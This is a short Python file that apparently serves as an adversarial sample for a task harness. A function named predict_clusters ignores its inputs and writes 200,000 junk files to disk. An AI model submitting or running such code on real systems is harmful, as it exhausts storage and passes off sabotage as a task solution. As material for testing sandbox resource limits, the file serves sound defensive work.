"""Writes files without end."""

TASK = "predict_clusters"


def predict_clusters(model, frame):
    for number in range(200_000):
        with open(f"file{number}", "wb") as file:
            file.write(b"x")
    return None
